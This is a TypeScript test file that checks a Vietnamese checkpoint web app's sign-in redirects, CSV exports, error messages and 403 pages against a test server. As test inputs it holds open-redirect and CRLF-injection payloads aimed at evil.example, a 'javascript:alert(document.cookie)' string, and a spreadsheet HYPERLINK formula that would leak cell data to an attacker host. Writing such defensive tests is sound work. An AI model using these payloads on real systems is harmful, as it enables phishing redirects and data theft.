/**
 * Redirects stay on the site (10.9), exports cannot carry formulas (10.8), errors tell nothing to
 * the wrong person (10.10) — against the real server, as an attacker (or a careless tablet) would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASE_KINDS } from '../fixtures/db.ts';
import { SYSTEM, signedInUser, testServer, type TestServerHandle } from '../fixtures/server.ts';
import type { CheckpointView } from '../../src/lib/contracts/live.ts';
import { AUDIT_COLUMNS } from '../../src/lib/domain/csv.ts';

/** Minimal RFC 4180 reader (quoted cells, doubled quotes, CRLF or LF): enough to see each cell. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i]!;
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else cell += ch;
		} else if (ch === '"') quoted = true;
		else if (ch === ',') {
			row.push(cell);
			cell = '';
		} else if (ch === '\n' || ch === '\r') {
			if (ch === '\r' && text[i + 1] === '\n') i++;
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
		} else cell += ch;
	}
	if (cell || row.length) {
		row.push(cell);
		rows.push(row);
	}
	return rows;
}

/** The CSV's cells, after checking the UTF-8 BOM (fetch's text() would silently drop it). */
async function csvRows(res: Response): Promise<string[][]> {
	const bytes = new Uint8Array(await res.arrayBuffer());
	expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	return parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.subarray(3)));
}

/** A cell a spreadsheet would run (OWASP), unless it is a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind) => {
	let server: TestServerHandle;
	let app: string;
	let commander: Awaited<ReturnType<typeof signedInUser>>;

	beforeAll(async () => {
		server = await testServer(kind);
		const running = await server.start();
		app = `http://127.0.0.1:${running.port}`;
		commander = await signedInUser(running.core.services, 'district_commander');
	});
	afterAll(async () => {
		await server?.dispose();
	});

	describe('?next= after sign-in goes only to a path of this site', () => {
		/** The decoded value of ?next= (sent percent-encoded, so the server sees exactly this). */
		const TRICKY = [
			'//evil.example',
			'/\\evil.example',
			'\\\\evil.example',
			'/\t/evil.example',
			'/%09/evil.example',
			'/%2F%2Fevil.example',
			'/%5Cevil.example',
			'https://evil.example',
			'javascript:alert(document.cookie)',
			'evil.example/path',
			'/\r\nLocation: http://evil.example'
		];
		/** Raw query strings, not re-encoded: what a link in a phishing mail would carry. */
		const RAW = [
			'next=//evil.example',
			'next=/%09/evil.example',
			'next=%5C%5Cevil.example',
			'next=/%5Cevil.example',
			'next=%2F%2Fevil.example',
			'next=/%0d%0aevil'
		];

		const signIn = (query: string) =>
			fetch(`${app}/login?${query}`, {
				method: 'POST',
				redirect: 'manual',
				headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html', origin: app },
				body: new URLSearchParams({ username: commander.username, password: commander.password })
			});

		it.each(TRICKY)('signing in with next=%j lands on /', async (next) => {
			const res = await signIn(new URLSearchParams({ next }).toString());
			expect(res.status).toBe(303);
			expect(res.headers.get('location')).toBe('/');
		});

		it.each(RAW)('signing in with the raw query %j lands on /', async (query) => {
			const res = await signIn(query);
			expect(res.status).toBe(303);
			expect(res.headers.get('location')).toBe('/');
		});

		it('a path of this site is kept, and an already signed-in visit of /login follows the same rule', async () => {
			const good = await signIn(new URLSearchParams({ next: '/ward/kim-ma?tab=2' }).toString());
			expect(good.headers.get('location')).toBe('/ward/kim-ma?tab=2');
			for (const next of ['//evil.example', '/%09/evil.example', '/ward/kim-ma']) {
				const res = await fetch(`${app}/login?${new URLSearchParams({ next })}`, { redirect: 'manual', headers: { cookie: commander.cookie } });
				expect(res.status).toBe(303);
				expect(res.headers.get('location')).toBe(next === '/ward/kim-ma' ? next : '/');
			}
		});

		it('the guard sends a signed-out visitor to /login with the page as next, which comes back to it', async () => {
			const res = await fetch(`${app}/ward/kim-ma?tab=2`, { redirect: 'manual' });
			expect(res.status).toBe(303);
			const location = res.headers.get('location')!;
			expect(location).toBe(`/login?next=${encodeURIComponent('/ward/kim-ma?tab=2')}`);
			const back = await signIn(location.split('?')[1]!);
			expect(back.headers.get('location')).toBe('/ward/kim-ma?tab=2');
		});
	});

	describe('CSV exports carry no formulas', () => {
		it('the audit CSV: Vietnamese headers; a display name that is a formula is neutralised', async () => {
			const s = server.current().core.services;
			const formulaName = '=HYPERLINK("http://evil.example/?c="&A1,"Bấm vào đây")';
			const created = await s.accounts.create(SYSTEM, { username: 'formula.user', displayName: formulaName, role: 'district_commander', wardCode: null });
			const password = 'mat-khau-thu-nghiem-2026';
			const me = {
				kind: 'user' as const,
				id: created.user.id,
				username: 'formula.user',
				name: created.user.displayName,
				role: 'district_commander' as const,
				wardCode: null
			};
			await s.accounts.changePassword(me, { current: created.oneTimePassword, next: password, confirm: password });
			await s.accounts.signIn({ username: 'formula.user', password }, '127.0.0.9');

			const res = await fetch(`${app}/audit/export.csv`, { headers: { cookie: commander.cookie } });
			expect(res.status).toBe(200);
			expect(res.headers.get('content-type')).toContain('text/csv');
			const rows = await csvRows(res);
			// The Vietnamese headers (their wording is held by tests/unit/csv.test.ts).
			expect(rows[0]).toEqual(AUDIT_COLUMNS.map((c) => c.vi));
			const actorCells = rows.map((r) => r[4]);
			expect(actorCells).toContain(`'${formulaName}`);
			const offending = rows.flat().filter(runsAsFormula);
			expect(offending).toEqual([]);
		});

		it('the report CSV: no cell runs as a formula; numbers stay numbers', async () => {
			const s = server.current().core.services;
			const { id } = await s.reports.generateNow(commander.principal);
			const res = await fetch(`${app}/reports/${id}/export.csv`, { headers: { cookie: commander.cookie } });
			expect(res.status).toBe(200);
			const rows = await csvRows(res);
			expect(rows.length).toBeGreaterThan(10);
			expect(rows.flat().filter(runsAsFormula)).toEqual([]);
			const value = rows.find((r) => r[8] === 'district:f0Active')?.[5];
			expect(value).toMatch(/^\d+$/);
		});
	});

	describe('a refused check-in names the other checkpoint only to who may see it', () => {
		const person = { personName: 'Thượng úy Lê Minh Đức', personKey: 'CA445566', force: 'police' };
		const checkIn = (cookie: string, code: string) =>
			fetch(`${app}/api/checkpoints/${code}/check-ins`, {
				method: 'POST',
				headers: { 'content-type': 'application/json', cookie },
				body: JSON.stringify(person)
			});
		const onDuty = async (cookie: string, ward: string) =>
			((await (await fetch(`${app}/api/checkpoints?ward=${ward}`, { headers: { cookie } })).json()) as CheckpointView[]).flatMap((c) => c.onDuty);

		it('another ward hears "on duty at another checkpoint"; the district hears where; nothing saved', async () => {
			const s = server.current().core.services;
			const kimMa = await signedInUser(s, 'ward_commander', 'kim-ma');
			const doiCan = await signedInUser(s, 'ward_staff', 'doi-can');
			expect((await checkIn(kimMa.cookie, 'kim-ma-1')).status).toBe(201);
			const kimMaName = ((await (await fetch(`${app}/api/checkpoints?ward=kim-ma`, { headers: { cookie: kimMa.cookie } })).json()) as CheckpointView[]).find(
				(c) => c.code === 'kim-ma-1'
			)!.name;

			const ward = await checkIn(doiCan.cookie, 'doi-can-1');
			expect(ward.status).toBe(400);
			const wardText = await ward.text();
			const wardBody = JSON.parse(wardText) as { errors: Array<{ field: string; code: string; message: string; messageEn: string }> };
			expect(wardBody.errors).toEqual([
				{
					field: 'personKey',
					code: 'already_on_duty',
					message: 'Người này đang trực ở một chốt khác',
					messageEn: 'This person is on duty at another checkpoint'
				}
			]);
			expect(wardText).not.toContain(kimMaName);
			expect(wardText).not.toContain('kim-ma');

			// The tablet's form (no JavaScript) says the same.
			const form = await fetch(`${app}/ward/doi-can/checkpoints?/checkIn`, {
				method: 'POST',
				headers: {
					'content-type': 'application/x-www-form-urlencoded',
					origin: app,
					accept: 'application/json',
					'x-sveltekit-action': 'true',
					cookie: doiCan.cookie
				},
				body: new URLSearchParams({ checkpoint: 'doi-can-1', ...person })
			});
			const formText = await form.text();
			expect(formText).toContain('Người này đang trực ở một chốt khác');
			expect(formText).not.toContain(kimMaName);

			const district = await checkIn(commander.cookie, 'doi-can-1');
			expect(district.status).toBe(400);
			const districtBody = (await district.json()) as { errors: Array<{ message: string }> };
			expect(districtBody.errors[0]!.message).toBe(`Người này đang trực ở một chốt khác: ${kimMaName}`);

			expect(await onDuty(doiCan.cookie, 'doi-can')).toEqual([]);
			expect((await onDuty(kimMa.cookie, 'kim-ma')).map((d) => d.personName)).toEqual([person.personName]);
		});
	});

	describe('the 403 page', () => {
		it('is the styled, Vietnamese-first page of +error.svelte with a way home', async () => {
			const s = server.current().core.services;
			const staff = await signedInUser(s, 'ward_staff', 'kim-ma');
			for (const path of ['/admin/users', '/audit', '/reports']) {
				const res = await fetch(`${app}${path}`, { headers: { cookie: staff.cookie, accept: 'text/html,application/xhtml+xml' } });
				expect(res.status, path).toBe(403);
				expect(res.headers.get('content-type')).toContain('text/html');
				const html = await res.text();
				expect(html).toMatch(/<html lang="vi">/);
				expect(html).toContain('data-testid="error-page"');
				expect(html).toContain('Không có quyền truy cập');
				expect(html).toContain('Bạn không có quyền xem trang này');
				expect(html.indexOf('Bạn không có quyền xem trang này')).toBeLessThan(html.indexOf('You may not see this page'));
				expect(html).toMatch(/<a class="home[^"]*" href="\/"[^>]*>Về trang chủ<\/a>/);
				// Nothing of the refused page itself.
				expect(html).not.toContain('Nhật ký thay đổi');
			}
		});

		it('scripts and form posts still get the error, not a page', async () => {
			const s = server.current().core.services;
			const staff = await signedInUser(s, 'ward_staff', 'kim-ma');
			const script = await fetch(`${app}/audit`, { headers: { cookie: staff.cookie, accept: 'application/json' } });
			expect(script.status).toBe(403);
			expect(await script.json()).toMatchObject({ message: 'Bạn không có quyền xem trang này', messageEn: 'You may not see this page' });
			// A form post to a refused page: refused before any action runs, SvelteKit's fallback page
			// (src/error.html), which says the same in the same language.
			const post = await fetch(`${app}/admin/users`, {
				method: 'POST',
				headers: { 'content-type': 'application/x-www-form-urlencoded', origin: app, accept: 'text/html', cookie: staff.cookie },
				body: new URLSearchParams({ username: 'x', displayName: 'x', role: 'admin' })
			});
			expect(post.status).toBe(403);
			const fallback = await post.text();
			expect(fallback).toMatch(/<html lang="vi">/);
			expect(fallback).toContain('Bạn không có quyền xem trang này');
			expect(fallback).toContain('Về trang chủ');
		});
	});
});
